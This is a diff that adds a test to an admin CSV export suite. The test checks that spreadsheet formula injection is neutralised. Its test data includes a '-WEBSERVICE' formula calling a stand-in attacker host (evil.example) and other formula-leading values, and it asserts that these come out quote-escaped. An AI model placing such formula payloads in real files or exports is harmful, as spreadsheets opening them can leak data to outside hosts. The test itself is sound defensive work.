@@ -61,6 +61,24 @@ describe('admin exports and e-mail triggers', () => {
       expect(none.text.trim().split('\n')).toHaveLength(1);
     });
 
+    it('neutralises cells a spreadsheet would run as formulas', async () => {
+      const { exportId } = (
+        await as(t, admin.token).post('/admin/api/profile-exports', {}).expect(201)
+      ).body.result;
+      await t.db.pool.query(
+        `INSERT INTO read_profiles.profiles
+           (profile_id, email, first_name, last_name, language, registered_at, last_revision,
+            updated_at)
+         VALUES ('formula-profile', '+cmd@example.com', '-WEBSERVICE("http://evil.example/")',
+                 '=1+2', 'en', now(), 0, now())`,
+      );
+      const csv = await as(t, admin.token).get(`/admin/api/profile-exports/${exportId}`);
+      const line = csv.text.split('\n').find((l) => l.startsWith('formula-profile,'));
+      expect(line).toMatch(
+        /^formula-profile,'\+cmd@example\.com,"'-WEBSERVICE\(""http:\/\/evil\.example\/""\)",'=1\+2,en,/,
+      );
+    });
+
     it('downloads with the admin session cookie, as a browser link does', async () => {
       const { exportId } = (
         await as(t, admin.token).post('/admin/api/profile-exports', {}).expect(201)
